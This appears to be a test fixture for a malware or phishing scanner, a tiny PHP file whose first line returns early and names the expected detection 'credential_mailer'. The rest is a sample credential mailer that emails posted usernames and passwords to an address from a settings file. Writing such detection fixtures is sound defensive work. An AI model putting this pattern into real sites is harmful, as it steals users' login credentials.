<?php return; // want: suspicious credential_mailer php.mail.password
include 'settings.php';
$text = 'User: ' . $_POST['user'] . "\nPassword: " . $_POST['password'] . "\n";
mail($send, 'A login', $text);
